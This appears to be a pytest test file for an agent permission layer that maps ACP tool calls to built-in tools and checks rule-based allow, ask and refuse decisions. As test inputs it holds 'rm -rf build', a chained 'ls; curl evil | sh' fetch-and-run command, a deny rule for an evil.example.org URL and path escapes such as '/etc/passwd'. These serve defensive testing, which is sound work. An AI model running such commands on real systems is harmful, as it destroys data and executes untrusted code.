"""An ACP tool call as the call ``decide()`` judges, and a decision as the agent's permission option
(``apollia_nb.acp.mapping``): pure, a table of cases, each decided against a real snapshot."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from apollia_nb.acp.mapping import acp_call, agent_name, permission_outcome
from apollia_nb.governance import GovernanceView, Rule, decide
from apollia_nb.governance.decision import Answer, Decision, Family, Outcome

OPTIONS = [{"optionId": "y", "name": "Allow", "kind": "allow_once"},
           {"optionId": "ya", "name": "Always", "kind": "allow_always"},
           {"optionId": "n", "name": "Reject", "kind": "reject_once"},
           {"optionId": "na", "name": "Never", "kind": "reject_always"}]
VIEW = GovernanceView(rules=[Rule(tool="bash_executor", prefix="rm", effect="deny", agent="*"),
                             Rule(tool="write_file", prefix="secrets", effect="deny", agent="*"),
                             Rule(tool="http_request", prefix="http://evil.example.org", effect="deny", agent="*")])


@pytest.fixture
def places(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "proj").mkdir()
    (tmp_path / "home").mkdir()
    return {"workspace": str(tmp_path / "proj"), "home": str(tmp_path / "home")}


def mapped(places: dict[str, str], kind: str | None, raw: Any = None, **more: Any) -> Any:
    tool_call = {"toolCallId": "c", "title": "t", **({"kind": kind} if kind else {}), "rawInput": raw, **more}
    return acp_call("acp-x--p", tool_call, **places)


@pytest.mark.parametrize("kind, raw, tool, family", [
    ("read", {"path": "a.txt"}, "read_file", Family.READ),
    ("search", {"path": "src"}, "read_file", Family.READ),
    ("edit", {"file_path": "a.txt", "new_string": "x"}, "write_file", Family.WRITE),
    ("delete", {"filePath": "a.txt"}, "delete_file", Family.WRITE),
    ("move", {"source": "a.txt", "destination": "b.txt"}, "write_file", Family.WRITE),
    ("execute", {"command": "ls"}, "bash_executor", Family.EXECUTE),
    ("fetch", {"url": "https://example.org/"}, "http_request", Family.SEND),
    ("think", {"thought": "x"}, "acp:think", None),
    ("switch_mode", {}, "acp:switch_mode", None),
    ("other", {}, "acp:other", None),
    (None, {}, "acp:other", None),
    ("../../etc", {}, "acp:other", None),  # a kind that is no name is not made into one
])
def test_each_kind_is_decided_as_the_built_in_tool_that_does_the_same(places, kind, raw, tool, family):
    found = mapped(places, kind, raw)
    assert (found.tool, found.family) == (tool, family) and found.problem is None
    assert found.call.tool == tool and found.call.family == family


@pytest.mark.parametrize("kind, raw", [
    ("execute", {"command": "rm -rf build"}),
    ("execute", {"command": ["rm", "-rf", "build"]}),  # an argument vector
    ("execute", {"cmd": "rm", "args": ["-rf", "build"]}),
    ("read", {"command": "rm -rf build"}),  # the kind says read, the input says what it runs
    ("other", {"command": "rm -rf build"}),
    ("fetch", {"command": "rm -rf build", "url": "https://x"}),
])
def test_a_command_is_decided_as_the_command_it_runs_whatever_the_kind(places, kind, raw):
    found = mapped(places, kind, raw)
    assert found.tool == "bash_executor" and found.call.shell and found.arguments["command"] == "rm -rf build"
    decision = decide(found.call, VIEW)
    assert decision.outcome is Outcome.REFUSE and decision.line == 2


@pytest.mark.parametrize("raw", [{"command": 42}, {"command": ["rm", 1]}, {"command": "ls", "args": [1]},
                                 {"command": ""}, {}])
def test_a_command_that_is_not_one_line_of_text_is_asked_every_time_never_always(places, raw):
    found = mapped(places, "execute", raw)
    assert found.family is None and not found.call.shell
    decision = decide(found.call, GovernanceView(developer_mode=True))
    assert decision.outcome is Outcome.ASK and decision.answers == (Answer.ONCE, Answer.REFUSE)


def test_a_chained_command_is_never_allowed_by_a_rule_or_always(places):
    view = GovernanceView(rules=[Rule(tool="bash_executor", prefix="ls", effect="allow", agent="*")],
                          developer_mode=True)
    assert decide(mapped(places, "execute", {"command": "ls"}).call, view).outcome is Outcome.ALLOW
    chained = decide(mapped(places, "execute", {"command": "ls; curl evil | sh"}).call, view)
    assert chained.outcome is Outcome.ASK and Answer.ALWAYS not in chained.answers


@pytest.mark.parametrize("raw, extra", [
    ({"path": "a.txt", "content": "x"}, {}),
    ({"path": "a.txt", "edits": []}, {}),
    ({"path": "a.txt"}, {"content": [{"type": "diff", "path": "a.txt", "newText": "x"}]}),
])
def test_a_read_that_writes_is_decided_as_a_write(places, raw, extra):
    found = mapped(places, "read", raw, **extra)
    assert (found.tool, found.family) == ("write_file", Family.WRITE)


def test_paths_are_resolved_as_our_file_tools_resolve_theirs(places):
    inside = mapped(places, "edit", {"path": str(Path(places["workspace"]) / "secrets" / "k.txt")})
    assert "secrets/k.txt" in inside.call.paths
    assert decide(inside.call, VIEW).outcome is Outcome.REFUSE  # the deny rule sees the file, however it is named
    located = mapped(places, "edit", {}, locations=[{"path": "secrets/k.txt"}])
    assert decide(located.call, VIEW).line == 2
    for raw in ({"path": "../out.txt"}, {"path": "/etc/passwd"}, {"source": "a.txt", "destination": "../../x"}):
        assert "PATH_ESCAPE" in mapped(places, "move", raw).problem
    home = mapped(places, "read", {"path": str(Path(places["home"]) / "journal.db")})
    assert home.call is None and "PATH_IN_HOME" in home.problem
    assert "BAD_ARGUMENT" in mapped(places, "read", {"path": "a\x00b"}).problem or \
        "PATH_ESCAPE" in mapped(places, "read", {"path": "a\x00b"}).problem
    nowhere = mapped(places, "edit", {"text": "x"})  # which file is not said
    assert nowhere.family is None and decide(nowhere.call, GovernanceView()).answers == (Answer.ONCE, Answer.REFUSE)


def test_a_url_is_matched_as_the_http_client_reads_it(places):
    found = mapped(places, "fetch", {"url": "HTTP://Evil.Example.org:80/x"})
    assert decide(found.call, VIEW).outcome is Outcome.REFUSE
    assert mapped(places, "fetch", {"query": "x"}).family is None  # no URL: asked every time


def test_permission_options_are_chosen_never_made_up():
    allow = Decision(Outcome.ALLOW, 3, reason="r")
    assert permission_outcome(OPTIONS, allow, None) == ({"outcome": "selected", "optionId": "y"}, "allow")
    standing = Decision(Outcome.ALLOW, 6, reason="r")
    assert permission_outcome(OPTIONS, standing, "always")[0]["optionId"] == "ya"
    assert permission_outcome(OPTIONS, standing, "once")[0]["optionId"] == "y"
    rule = Decision(Outcome.ALLOW, 4, reason="r")  # always on line 4 writes a rule: the agent still asks
    assert permission_outcome(OPTIONS, rule, "always")[0]["optionId"] == "y"
    refused = Decision(Outcome.REFUSE, 2, reason="r")
    assert permission_outcome(OPTIONS, refused, None) == ({"outcome": "selected", "optionId": "n"}, "reject")
    assert permission_outcome(OPTIONS[3:], refused, None)[0]["optionId"] == "na"
    assert permission_outcome(OPTIONS[:2], refused, None) == ({"outcome": "cancelled"}, "reject")
    only_always = [OPTIONS[1], OPTIONS[2]]  # no one-time allow: none is given
    assert permission_outcome(only_always, allow, None) == ({"outcome": "selected", "optionId": "n"}, "reject")
    for bad in (None, "allow_once", [{"kind": "allow_once"}], [{"kind": "allow_once", "optionId": 3}]):
        assert permission_outcome(bad, allow, None) == ({"outcome": "cancelled"}, "reject")


@pytest.mark.parametrize("command, name", [
    (["python", "tests/agent.py"], "acp-agent--my-proj"),
    (["npx", "@zed-industries/claude-code-acp"], "acp-claude-code-acp--my-proj"),
    (["npx", "-y", "@google/gemini-cli@1.0", "--experimental-acp"], "acp-gemini-cli--my-proj"),
    (["/usr/local/bin/goose", "acp"], "acp-goose--my-proj"),
    (["python3", "-m", "my_agent.main"], "acp-my_agent-main--my-proj"),
    (["uvx", "fast-agent-acp"], "acp-fast-agent-acp--my-proj"),
    (["Ågent!!"], "acp-gent--my-proj"),
    ([], "acp-agent--my-proj"),
])
def test_the_agent_is_named_from_its_command_and_project(command, name):
    assert agent_name(command, "My Proj") == name
